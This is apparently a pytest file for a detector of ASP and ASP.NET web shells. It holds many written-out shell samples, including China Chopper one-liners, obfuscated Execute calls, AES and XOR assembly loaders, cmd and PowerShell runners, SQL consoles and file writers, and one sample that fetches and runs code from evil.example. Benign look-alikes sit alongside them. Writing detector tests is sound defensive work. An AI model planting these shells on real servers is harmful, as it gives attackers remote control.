"""More near variants of the classic ASP and ASP.NET behaviours (a second round, written against the
held-out gap): China Chopper one-liners in more spellings (JScript and JScript.NET eval with "unsafe" built
or kept in a name, VBScript Execute of code built with ChrW/hex/arithmetic Chr, StrReverse, Replace,
Join/Split), JScript's Function() without new, AES/XOR assembly loaders, Process started from object
initialisers, PowerShell and WMI, SQL consoles through qualified class names, CommandText and ADODB's
Recordset.Open, and form-control driven consoles. Each group has a benign look-alike that must stay
below the threshold. Every sample is written here."""

import pytest

from tests.unit import variant_asserts


def assert_shell(text, name="x.asp"):
    return variant_asserts.assert_shell(text, name)


def assert_benign(text, name="x.asp"):
    variant_asserts.assert_benign(text, name)


# --- China Chopper and its spellings ----------------------------------------------------------------

CHOPPER = {
    "aspx-jscript-item": ("x.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'),
    "aspx-jscript-b64": ("x.aspx", '<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.GetEncoding(936).GetString('
                                   'System.Convert.FromBase64String(Request.Item["x"])),"unsafe");%>'),
    "aspx-jscript-lower": ("x.aspx", '<%@ page language="jscript" %><% var x = Request.Form("z"); eval(x, "unsafe"); %>'),
    "aspx-jscript-script": ("x.aspx", '<script runat="server" language="JScript">function Page_Load(){ eval(Request["c"], "unsafe"); }</script>'),
    "aspx-jscript-unsafe-var": ("x.aspx", '<%@ Page Language="JScript" %><% var k = Request.Item["z"]; var u = "unsafe"; eval(k, u); %>'),
    "aspx-jscript-unsafe-concat": ("x.aspx", '<%@ Page Language="Jscript" validateRequest="false" %><% Response.Write(eval('
                                             'Request.Item["z"], "un" + "safe")); %>'),
    "asp-eval-space": ("x.asp", '<%eval request("x")%>'),
    "asp-execute-paren": ("x.asp", '<%execute(request("x"))%>'),
    "asp-if-execute": ("x.asp", '<%If Request("x")<>"" Then Execute(Request("x"))%>'),
    "asp-if-len": ("x.asp", '<% Dim s: s = Request("x"): If Len(s) > 0 Then Execute(s) End If %>'),
    "asp-cstr": ("x.asp", '<%Execute(CStr(Request("c")))%>'),
    "asp-amp-empty": ("x.asp", '<%Execute Request("c") & ""%>'),
    "asp-write-eval": ("x.asp", '<%response.write eval(request("c"))%>'),
    "asp-eval-quoted": ("x.asp", '<%eval""&request("x")&""%>'),
    "asp-script-block": ("x.asp", '<script language=vbscript runat=server>execute request("x")</script>'),
    "asp-class-init": ("x.asp", '<%\nClass X\nPrivate Sub Class_Initialize\nExecute Request("c")\nEnd Sub\nEnd Class\nSet o = New X\n%>'),
    "asp-jscript-item": ("x.asp", '<%@ LANGUAGE="JScript" %><% Response.Write(eval(Request.Item("z"))); %>'),
    "asp-jscript-bracket": ("x.asp", '<%@ LANGUAGE="JScript" %><% this["ev" + "al"](Request("z") + ""); %>'),
    "asp-jscript-block": ("x.asp", '<script language="JScript" runat="server">eval(Request.Form("z") + "");</script>'),
    "asp-jscript-function": ("x.asp", '<%@ LANGUAGE="JScript" %><% Function(Request("x") + "")(); %>'),
    "asp-jscript-function-var": ("x.asp", '<%@ LANGUAGE="JScript" %><% var f = Function(String(Request.Form("x"))); f(); %>'),
}


@pytest.mark.parametrize("case", sorted(CHOPPER))
def test_chopper_spellings(case):
    name, text = CHOPPER[case]
    assert_shell(text, name)


# --- VBScript code built before Execute ---------------------------------------------------------------

BUILT = {
    "chrw": 'Execute(ChrW(101) & ChrW(120) & ChrW(101) & ChrW(99) & ChrW(117) & ChrW(116) & ChrW(101) & " request(""c"")")',
    "chr-hex": 'Execute(Chr(&H65) & Chr(&H76) & Chr(&H61) & Chr(&H6C) & "(request(""c""))")',
    "chr-arith": 'Execute(Chr(100+1) & Chr(50+68) & Chr(97) & Chr(108) & "(request(""c""))")',
    "strreverse": 'Execute StrReverse(")""c""(tseuqer etucexe")',
    "replace": 'Execute Replace("eXval(reXquesXt(""c""))","X","")',
    "join-array": 'Execute Join(Array("ev","al(re","quest(""c""))"),"")',
    "split-join": 'a = Split("ev|al(re|que|st(""c""))", "|")\nExecute Join(a, "")',
    "split-join-inline": 'Execute Join(Split("ev|al(re|que|st(""c""))", "|"), "")',
}


@pytest.mark.parametrize("case", sorted(BUILT))
def test_vbscript_code_built_before_execute(case):
    assert_shell(f"<%\n{BUILT[case]}\n%>")


def test_benign_execute_of_a_built_constant_assignment():
    # a config page building a constant statement: nothing of the request in what it runs
    assert_benign('<%\nExecute "Const SITE_" & "NAME = ""Shop"""\nResponse.Write Server.HTMLEncode(Request("q")) & SITE_NAME\n%>')


def test_benign_jscript_page_with_function_declarations():
    assert_benign('<%@ LANGUAGE="JScript" %><% function esc(s) { return Server.HTMLEncode(String(s)); }'
                  ' var add = Function("a", "b", "return a + b"); Response.Write(esc(Request("q")) + add(1, 2)); %>')


# --- WScript.Shell with the ProgID built other ways ------------------------------------------------------

PROGIDS = {
    "var": 'p = "WScript" & "." & "Shell"\nSet o = Server.CreateObject(p)\no.Run Request("c"), 0, False',
    "chrs": 'Set o = CreateObject(Chr(87)&Chr(83)&Chr(99)&Chr(114)&Chr(105)&Chr(112)&Chr(116)&"."&Chr(83)&Chr(104)&Chr(101)'
            '&Chr(108)&Chr(108))\no.Run Request("c")',
    "replace": 'Set o = CreateObject(Replace("WS#cript.Sh#ell","#",""))\no.Run Request("c")',
    "lcase": 'Set o = CreateObject(LCase("WSCRIPT.SHELL"))\nSet e = o.Exec("cmd /c " & Request.Form("c"))\nResponse.Write e.StdOut.ReadAll',
    "chained": 'Response.Write(CreateObject("WScript.Shell").Exec(Request("c")).StdOut.ReadAll())',
    "exec-var": 'Dim sh, ex\nsh = "WScript.Shell"\nSet o = Server.CreateObject(sh)\nSet ex = o.Exec("cmd.exe /c " & Request.QueryString("c"))'
                '\nResponse.Write ex.StdOut.ReadAll()',
    "shell-app": 'Set sa = Server.CreateObject("Shell.Application")\nSet f = sa.NameSpace(Request("d"))\nsa.ShellExecute Request("f"), "", "", "open", 0',
}


@pytest.mark.parametrize("case", sorted(PROGIDS))
def test_wscript_shell_progids(case):
    assert_shell(f"<%\n{PROGIDS[case]}\n%>")


# --- ASP.NET: loaders, processes ------------------------------------------------------------------------

CS = {
    "behinder-aes": '<%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes('
                    'Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged()'
                    '.CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>',
    "behinder-xor": '<%@Import Namespace="System.Reflection"%><% Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes('
                    'Session[0] + ""); byte[] c = Request.BinaryRead(Request.ContentLength); for (int i = 0; i < c.Length; i++) c[i] ='
                    ' (byte)(c[i] ^ k[i + 1 & 15]); Assembly.Load(c).CreateInstance("U").Equals(this); %>',
    "godzilla-reflective-load": '<%try { string key = "3c6e0b8a9c15224a"; string pass = "pass"; byte[] data = System.Convert.FromBase64String('
                                'Context.Request[pass]); data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor('
                                'System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock('
                                'data, 0, data.Length); if (Context.Session["payload"] == null) { Context.Session["payload"] ='
                                ' (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] {'
                                ' typeof(byte[]) }).Invoke(null, new object[] { data }); } else { object o = ((System.Reflection.Assembly)'
                                'Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); } } catch (System.Exception) { }%>',
    "typeof-load": '<% byte[] b = Convert.FromBase64String(Request.Form["d"]); var a = (System.Reflection.Assembly) typeof('
                   'System.Reflection.Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { b });'
                   ' a.CreateInstance("X").Equals(Context); %>',
    "activator": '<% byte[] b = Convert.FromBase64String(Request["d"]); Activator.CreateInstance(System.Reflection.Assembly.Load(b).GetType("X")); %>',
    "load-downloaded": '<% byte[] b = new System.Net.WebClient().DownloadData(Request["u"]); System.Reflection.Assembly.Load(b).CreateInstance("X"); %>',
    "codedom-provider": '<% var p = System.CodeDom.Compiler.CodeDomProvider.CreateProvider("CSharp"); var r = p.CompileAssemblyFromSource('
                        'new System.CodeDom.Compiler.CompilerParameters { GenerateInMemory = true }, Request.Form["src"]);'
                        ' r.CompiledAssembly.CreateInstance("X"); %>',
    "process-nested-initialiser": '<% new System.Diagnostics.Process { StartInfo = { FileName = "cmd", Arguments = "/c " + Request["c"],'
                                  ' UseShellExecute = false } }.Start(); %>',
    "psi-initialiser-var": '<script runat="server">protected void Page_Load(object sender, EventArgs e) { string c = Request.QueryString["c"];'
                           ' if (!string.IsNullOrEmpty(c)) { var psi = new System.Diagnostics.ProcessStartInfo { FileName = "powershell.exe",'
                           ' Arguments = "-c " + c, RedirectStandardOutput = true, UseShellExecute = false };'
                           ' Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd()); } }</script>',
    "start-two": "<% Process.Start(Request[\"f\"], Request[\"a\"]); %>",
    "form-get": '<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form.Get("c")); %>',
    "params-index": '<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Params[0]); %>',
    "headers-get": '<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Headers.Get("X-C")); %>',
    "runspace": '<%@ Import Namespace="System.Management.Automation.Runspaces" %><% Runspace rs = RunspaceFactory.CreateRunspace(); rs.Open();'
                ' Pipeline pl = rs.CreatePipeline(); pl.Commands.AddScript(Request["c"]); pl.Invoke(); %>',
    "wmi-managementclass": '<% var mc = new System.Management.ManagementClass("Win32_Process"); mc.InvokeMethod("Create", new object[] { Request["c"] }); %>',
}


@pytest.mark.parametrize("case", sorted(CS))
def test_aspx_loaders_and_processes(case):
    assert_shell('<%@ Page Language="C#" %>' + CS[case], "x.aspx")


VB_NET = {
    "createobject": '<% Dim o As Object = CreateObject("WScript.Shell") : o.Run(Request("c")) %>',
    "process-start": '<% Process.Start("cmd.exe", "/c " & Request.QueryString("c")) %>',
    "process-object": '<% Dim p As New System.Diagnostics.Process() : p.StartInfo.FileName = "cmd.exe" : p.StartInfo.Arguments = "/c " &'
                      ' Request("c") : p.Start() %>',
}


@pytest.mark.parametrize("case", sorted(VB_NET))
def test_vbnet_pages(case):
    assert_shell('<%@ Page Language="VB" %>' + VB_NET[case], "x.aspx")


def test_ashx_handler_with_a_context_request():
    assert_shell('<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\npublic class H : IHttpHandler {'
                 ' public void ProcessRequest(HttpContext context) { string c = context.Request.Form["c"];'
                 ' System.Diagnostics.Process.Start("cmd.exe", "/c " + c); } public bool IsReusable { get { return false; } } }', "x.ashx")


def test_benign_page_running_a_fixed_tool_from_an_initialiser():
    assert_benign('<%@ Page Language="C#" %><% string id = Request["id"]; var p = new System.Diagnostics.Process { StartInfo = {'
                  ' FileName = "ffmpeg.exe", Arguments = "-i in.mp4 out.webm", UseShellExecute = false } }; p.Start();'
                  ' Response.Write(Server.HtmlEncode(id)); %>', "x.aspx")


def test_benign_page_decrypting_a_cookie_with_rijndael():
    assert_benign('<%@ Page Language="C#" %><% byte[] k = System.Text.Encoding.UTF8.GetBytes(ConfigurationManager.AppSettings["key"]);'
                  ' byte[] c = Convert.FromBase64String(Request.Cookies["s"].Value); byte[] v = new System.Security.Cryptography'
                  '.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length);'
                  ' Session["user"] = System.Text.Encoding.UTF8.GetString(v); %>', "x.aspx")


# --- SQL consoles ------------------------------------------------------------------------------------------

SQL = {
    "controls": ("x.aspx", '<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { using (var c = new'
                           ' System.Data.SqlClient.SqlConnection(ConnStr.Text)) { c.Open(); var cmd = new System.Data.SqlClient.SqlCommand('
                           'Sql.Text, c); var r = cmd.ExecuteReader(); G.DataSource = r; G.DataBind(); } }</script><form runat="server">'
                           '<asp:TextBox ID="ConnStr" runat="server"/><asp:TextBox ID="Sql" TextMode="MultiLine" runat="server"/>'
                           '<asp:Button OnClick="Go" runat="server"/><asp:GridView ID="G" runat="server"/></form>'),
    "commandtext": ("x.aspx", '<%@ Page Language="C#" %><% using (var c = new System.Data.SqlClient.SqlConnection(Request["conn"])) {'
                              ' c.Open(); var cmd = c.CreateCommand(); cmd.CommandText = Request["sql"]; var r = cmd.ExecuteReader();'
                              ' while (r.Read()) Response.Write(r[0]); } %>'),
    "oledb-qualified": ("x.aspx", '<%@ Page Language="C#" %><% var c = new System.Data.OleDb.OleDbConnection(Request.Form["cs"]); c.Open();'
                                  ' new System.Data.OleDb.OleDbCommand(Request.Form["q"], c).ExecuteNonQuery(); %>'),
    "adodb-recordset": ("x.asp", '<%\nSet cn = Server.CreateObject("ADODB.Connection")\ncn.Open Request.Form("cs")\nSet rs ='
                                 ' Server.CreateObject("ADODB.Recordset")\nrs.Open Request.Form("sql"), cn, 1, 1\nDo While Not rs.EOF\n'
                                 'Response.Write rs(0)\nrs.MoveNext\nLoop\n%>'),
    "adodb-command": ("x.asp", '<%\nSet cn = Server.CreateObject("ADODB.Connection")\ncn.Open Request("cs")\nSet cm ='
                               ' Server.CreateObject("ADODB.Command")\nSet cm.ActiveConnection = cn\ncm.CommandText = Request("sql")\n'
                               'Set rs = cm.Execute\n%>'),
}


@pytest.mark.parametrize("case", sorted(SQL))
def test_sql_consoles(case):
    name, text = SQL[case]
    assert_shell(text, name)


def test_benign_aspx_query_with_a_request_parameter():
    assert_benign('<%@ Page Language="C#" %><% using (var c = new System.Data.SqlClient.SqlConnection('
                  'ConfigurationManager.ConnectionStrings["app"].ConnectionString)) { c.Open(); var cmd = c.CreateCommand();'
                  ' cmd.CommandText = "SELECT name FROM users WHERE id = @id"; cmd.Parameters.AddWithValue("@id", Request["id"]);'
                  ' var r = cmd.ExecuteReader(); while (r.Read()) Response.Write(Server.HtmlEncode(r.GetString(0))); } %>', "x.aspx")


def test_benign_asp_recordset_with_the_pages_own_query():
    assert_benign('<%\nSet cn = Server.CreateObject("ADODB.Connection")\ncn.Open "Provider=SQLOLEDB;Data Source=db;Initial Catalog=shop"\n'
                  'Set rs = Server.CreateObject("ADODB.Recordset")\nrs.Open "SELECT * FROM products WHERE cat = " & CLng(Request("cat")), cn,'
                  ' 1, 1\nDo While Not rs.EOF\nResponse.Write Server.HTMLEncode(rs("name"))\nrs.MoveNext\nLoop\n%>')


def test_benign_asp_search_page_with_a_templated_command_text():
    assert_benign('<%\nSet cm = Server.CreateObject("ADODB.Command")\ncm.ActiveConnection = Application("conn")\n'
                  'q = Replace(Request("q"), "\'", "\'\'")\ncm.CommandText = "SELECT title FROM news WHERE title LIKE \'%" & q & "%\'"\n'
                  'Set rs = cm.Execute\n%>')


# --- objects by class id, reflection, assemblies by path ---------------------------------------------------

MORE = {
    "getobject-new-clsid": ("x.asp", '<%Set o = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")\no.Run Request("c"), 0, True%>'),
    "versioned-progid": ("x.asp", '<%Set o = CreateObject("WScript.Shell.1")\no.Run Request("c")%>'),
    "jscript-shell-application": ("x.asp", '<%@ LANGUAGE="JScript" %><% new ActiveXObject("Shell.Application").ShellExecute("cmd.exe",'
                                           ' "/c " + Request("c"), "", "open", 0); %>'),
    "application-execute": ("x.asp", '<%Application("x") = Request("x")\nExecute Application("x")%>'),
    "xmlhttp-execute": ("x.asp", '<%Set o = CreateObject("MSXML2.ServerXMLHTTP")\no.open "GET", Request("u"), False\no.send\nExecute o.responseText%>'),
    "xmlhttp-const-execute": ("x.asp", '<%Set o = CreateObject("MSXML2.ServerXMLHTTP")\no.open "GET", "http://evil.example/x.txt", False\n'
                                       'o.send\nExecuteGlobal o.responseText%>'),
    "gettype-qualified": ("x.aspx", '<%@ Page Language="C#" %><% Type t = Type.GetType("System.Diagnostics.Process, System, Version=4.0.0.0,'
                                    ' Culture=neutral, PublicKeyToken=b77a5c561934e089"); t.GetMethod("Start", new Type[] { typeof(string),'
                                    ' typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] }); %>'),
    "activator-properties": ("x.aspx", '<%@ Page Language="C#" %><% object p = Activator.CreateInstance(Type.GetType("System.Diagnostics.Process"));'
                                       ' object si = p.GetType().GetProperty("StartInfo").GetValue(p, null); si.GetType().GetProperty("FileName")'
                                       '.SetValue(si, "cmd.exe", null); si.GetType().GetProperty("Arguments").SetValue(si, "/c " + Request["c"], null);'
                                       ' p.GetType().GetMethod("Start", new Type[0]).Invoke(p, null); %>'),
    "uploaded-assembly": ("x.aspx", '<%@ Page Language="C#" %><% var f = Request.Files[0]; byte[] b = new byte[f.ContentLength];'
                                    ' f.InputStream.Read(b, 0, b.Length); System.Reflection.Assembly.Load(b).CreateInstance("X"); %>'),
    "execute-assembly": ("x.aspx", '<%@ Page Language="C#" %><% AppDomain.CurrentDomain.ExecuteAssembly(Request["p"]); %>'),
    "loadfile-entrypoint": ("x.aspx", '<%@ Page Language="C#" %><% System.Reflection.Assembly.LoadFile(Request["p"]).EntryPoint.Invoke(null, null); %>'),
    "objectstateformatter": ("x.aspx", '<%@ Page Language="C#" %><% new System.Web.UI.ObjectStateFormatter().Deserialize(Request["v"]); %>'),
    "unvalidated": ("x.aspx", '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Unvalidated["c"]); %>'),
    "request-context": ("x.aspx", '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " +'
                                  ' Request.RequestContext.HttpContext.Request["c"]); %>'),
    "allkeys": ("x.aspx", '<%@ Page Language="C#" %><% string k = Request.Form.AllKeys[0]; System.Diagnostics.Process.Start("cmd.exe",'
                          ' "/c " + Request.Form[k]); %>'),
    "vb-shell": ("x.aspx", '<%@ Page Language="VB" %><% Shell("cmd.exe /c " & Request.Form("c"), AppWinStyle.Hide) %>'),
    "jscript-net-process": ("x.aspx", '<%@ Page Language="JScript" %><% var c = new System.Diagnostics.ProcessStartInfo("cmd");'
                                      ' var e = new System.Diagnostics.Process(); c.UseShellExecute = false; c.RedirectStandardOutput = true;'
                                      ' e.StartInfo = c; c.Arguments = "/c " + Request.Item["c"]; e.Start();'
                                      ' Response.Write(e.StandardOutput.ReadToEnd()); %>'),
    "razor": ("x.cshtml", '@{ var c = Request["c"]; if (c != null) { var p = System.Diagnostics.Process.Start(new'
                          ' System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true,'
                          ' UseShellExecute = false }); @p.StandardOutput.ReadToEnd() } }'),
}


@pytest.mark.parametrize("case", sorted(MORE))
def test_objects_reflection_assemblies(case):
    name, text = MORE[case]
    assert_shell(text, name)


def test_benign_page_setting_a_settings_property_by_reflection():
    assert_benign('<%@ Page Language="C#" %><% object s = Session["prefs"]; var pi = s.GetType().GetProperty(Request["field"]);'
                  ' if (pi != null && pi.Name != "IsAdmin") pi.SetValue(s, Request["value"], null); %>', "x.aspx")


def test_benign_asp_wmi_disk_report():
    assert_benign('<%\nSet w = GetObject("winmgmts:\\\\.\\root\\cimv2")\nFor Each d In w.ExecQuery("SELECT * FROM Win32_LogicalDisk")\n'
                  'Response.Write Server.HTMLEncode(d.DeviceID & " " & d.FreeSpace & " " & Request("unit")) & "<br>"\nNext\n%>')


# --- writers and tools ---------------------------------------------------------------------------------------

WRITERS = {
    "stream-body-to-query-path": ("x.asp", '<%\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\ns.Write Request.BinaryRead(Request.TotalBytes)\n'
                                           's.SaveToFile Server.MapPath(Request.QueryString("f")), 2\n%>'),
    "fso-append": ("x.asp", '<%\nSet fso = CreateObject("Scripting.FileSystemObject")\nSet f = fso.OpenTextFile(Request.Form("path"), 8, True)\n'
                            'f.WriteLine Request.Form("content")\nf.Close\n%>'),
    "fso-asp-name": ("x.asp", '<%\nSet fso = CreateObject("Scripting.FileSystemObject")\nSet f = fso.CreateTextFile(Server.MapPath("x1.asp"), True)\n'
                              'f.Write Request.Form("c")\nf.Close\n%>'),
    "stream-writetext": ("x.asp", '<%\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 2\ns.Charset = "gb2312"\ns.Open\ns.WriteText Request("body")\n'
                                  's.SaveToFile Request("path"), 2\ns.Close\n%>'),
    "aspx-writealltext": ("x.aspx", '<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Request["p"], Request["c"]); %>'),
    "aspx-saveas-named": ("x.aspx", '<%@ Page Language="C#" %><% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath("~/") +'
                                    ' Request.Form["name"]); %>'),
    "aspx-streamwriter": ("x.aspx", '<%@ Page Language="C#" %><% using (var w = new System.IO.StreamWriter(Server.MapPath(Request.QueryString["f"]))) {'
                                    ' w.Write(Request.Form["t"]); } %>'),
    "aspx-body-to-file": ("x.aspx", '<%@ Page Language="C#" %><% using (var fs = System.IO.File.Create(Request["p"])) { Request.InputStream.CopyTo(fs); } %>'),
    "aspx-vb-writealltext": ("x.aspx", '<%@ Page Language="VB" %><% System.IO.File.WriteAllText(Server.MapPath(Request("f")), Request("t")) %>'),
    "aspx-upload-control-anywhere": ("x.aspx", '<%@ Page Language="C#" %><script runat="server">void Up(object s, EventArgs e) { F.PostedFile.SaveAs('
                                               'P.Text + "\\\\" + F.FileName); }</script><form runat="server"><input type="file" id="F" runat="server"/>'
                                               '<asp:TextBox ID="P" runat="server"/><asp:Button OnClick="Up" runat="server"/></form>'),
    "aspx-sniffer": ("x.aspx", '<%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %><script runat="server">Socket s;'
                               ' void Start_Click(object o, EventArgs e) { s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);'
                               ' s.Bind(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(ddlist.SelectedValue), 0));'
                               ' s.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, true);'
                               ' s.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, null); }</script>'),
}


@pytest.mark.parametrize("case", sorted(WRITERS))
def test_writers_and_tools(case):
    name, text = WRITERS[case]
    assert_shell(text, name)


def test_benign_upload_class_parsing_the_multipart_body():
    # every classic ASP upload class: the body read whole, the parts cut out with InStrB/MidB, each saved
    # under the folder the form names
    assert_benign('<%\nFunction SaveUpload(folder)\nDim body, sep, p, name, s\nbody = Request.BinaryRead(Request.TotalBytes)\n'
                  'sep = MidB(body, 1, InStrB(body, ChrB(13)) - 1)\np = InStrB(body, sep)\n'
                  'name = "up_" & Timer() & ".jpg"\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\n'
                  's.Write MidB(body, p + LenB(sep), 100)\ns.SaveToFile Server.MapPath(folder & "/" & name), 2\nEnd Function\n'
                  'SaveUpload Request.QueryString("folder")\n%>')


def test_benign_page_pinging_with_a_raw_icmp_socket():
    assert_benign('<%@ Page Language="C#" %><% var s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork,'
                  ' System.Net.Sockets.SocketType.Raw, System.Net.Sockets.ProtocolType.Icmp); s.Close(); %>', "x.aspx")


def test_benign_upload_handler_with_a_filename_initialiser():
    # FileName set from the upload in an object initialiser, and a Process word in the page: not a StartInfo
    assert_benign('<%@ WebHandler Language="C#" Class="U" %>\nusing System.Web;\npublic class U : IHttpHandler {'
                  ' public void ProcessRequest(HttpContext context) { var f = context.Request.Files[0];'
                  ' var rec = new UploadRecord { FileName = f.FileName, Arguments = context.Request["note"] };'
                  ' Process(rec); } void Process(UploadRecord r) { Db.Save(r); } public bool IsReusable { get { return true; } } }',
                  "x.ashx")


# --- VB.NET typed declarations, web methods, more COM ----------------------------------------------------------

TYPED = {
    "vb-script-block": ("x.aspx", '<%@ Page Language="VB" %><script runat="server">Sub Page_Load(sender As Object, e As EventArgs)\n'
                                  'Dim c As String = Request.Form("c")\nIf c <> "" Then\nDim p As Process = Process.Start("cmd.exe", "/c " & c)\n'
                                  'End If\nEnd Sub</script>'),
    "vb-typed-assembly": ("x.aspx", '<%@ Page Language="VB" %><% Dim b() As Byte = Convert.FromBase64String(Request.Form("p")) :'
                                    ' System.Reflection.Assembly.Load(b).CreateInstance("X").Equals(Me) %>'),
    "vb-new-process": ("x.aspx", '<%@ Page Language="VB" %><% Dim a As String = Request("c")\nDim p As New System.Diagnostics.Process()\n'
                                 'p.StartInfo.FileName = "cmd.exe"\np.StartInfo.Arguments = "/c " & a\np.Start() %>'),
    "vb-asmx-web-method": ("x.asmx", '<%@ WebService Language="VB" Class="S" %>\nImports System.Web.Services\nPublic Class S\n'
                                     '<WebMethod()> Public Function R(c As String) As String\nReturn Process.Start("cmd.exe", "/c " & c).Id.ToString()\n'
                                     'End Function\nEnd Class'),
    "vb-ashx-wscript": ("x.ashx", '<%@ WebHandler Language="VB" Class="H" %>\nImports System.Web\nPublic Class H : Implements IHttpHandler\n'
                                  'Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest\n'
                                  'Dim o = CreateObject("WScript.Shell")\no.Run(context.Request("c"))\nEnd Sub\nEnd Class'),
    "asp-wsh-exec-stdin": ("x.asp", '<%Set e = CreateObject("WScript.Shell").Exec("cmd.exe")\ne.StdIn.WriteLine Request("c")\ne.StdIn.Close\n'
                                    'Response.Write e.StdOut.ReadAll%>'),
    "asp-scheduled-task": ("x.asp", '<%Set s = CreateObject("Schedule.Service")\ns.Connect\nSet t = s.NewTask(0)\nSet a = t.Actions.Create(0)\n'
                                    'a.Path = "cmd.exe"\na.Arguments = "/c " & Request("c")\ns.GetFolder("\\").RegisterTaskDefinition "x", t, 6, , , 3%>'),
    "asp-wmi-moniker": ("x.asp", '<%Set p = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2:Win32_Process")\n'
                                 'p.Create Request("c"), Null, Null, pid%>'),
}


@pytest.mark.parametrize("case", sorted(TYPED))
def test_vbnet_typed_declarations_and_com(case):
    name, text = TYPED[case]
    assert_shell(text, name)


def test_benign_vbnet_page_with_typed_declarations():
    assert_benign('<%@ Page Language="VB" %><script runat="server">Sub Page_Load(sender As Object, e As EventArgs)\n'
                  'Dim id As Integer = CInt(Request.QueryString("id"))\nDim cmd As New System.Data.SqlClient.SqlCommand('
                  '"SELECT name FROM items WHERE id = @id", conn)\ncmd.Parameters.AddWithValue("@id", id)\n'
                  'Dim p As New System.Diagnostics.Process()\np.StartInfo.FileName = "C:\\tools\\thumb.exe"\np.StartInfo.Arguments = "-all"\n'
                  'p.Start()\nEnd Sub</script>', "x.aspx")


def test_benign_vbnet_web_method_adding_numbers():
    assert_benign('<%@ WebService Language="VB" Class="S" %>\nImports System.Web.Services\nPublic Class S\n'
                  '<WebMethod()> Public Function Add(a As Integer, b As Integer) As Integer\nReturn a + b\nEnd Function\nEnd Class', "x.asmx")


def test_many_unclosed_typed_declarations_end_in_bounded_time():
    import time

    page = ('<%@ Page Language="VB" %><% ' + "Dim x As T.U.V(Of (" * 40000 + " %>").encode()
    t0 = time.process_time()
    variant_asserts.hits(page.decode(), "x.aspx")
    assert time.process_time() - t0 < 5.0


@pytest.mark.parametrize("code", [
    'System.Diagnostics.Process.Start("cmd.exe", $"/c {Request["c"]}");',
    'var c = Request.Form["c"]; System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", $"/c {c}"));',
    'System.Diagnostics.Process.Start("powershell.exe", $@"-c {Request.QueryString["c"]}");',
])
def test_csharp_interpolated_strings_carry_the_request(code):
    assert_shell('<%@ Page Language="C#" %><% ' + code + " %>", "x.aspx")


def test_benign_interpolated_greeting_and_a_fixed_command():
    assert_benign('<%@ Page Language="C#" %><% var m = $"Hello {Server.HtmlEncode(Request["n"])}, {{guest}}"; Response.Write(m);'
                  ' System.Diagnostics.Process.Start("cmd.exe", $"/c dir {Server.MapPath("~")}"); %>', "x.aspx")


def test_unclosed_interpolations_end_in_bounded_time():
    import time

    t0 = time.process_time()
    variant_asserts.hits('<%@ Page Language="C#" %><% ' + '$"{(' * 50000 + " %>", "x.aspx")
    assert time.process_time() - t0 < 5.0
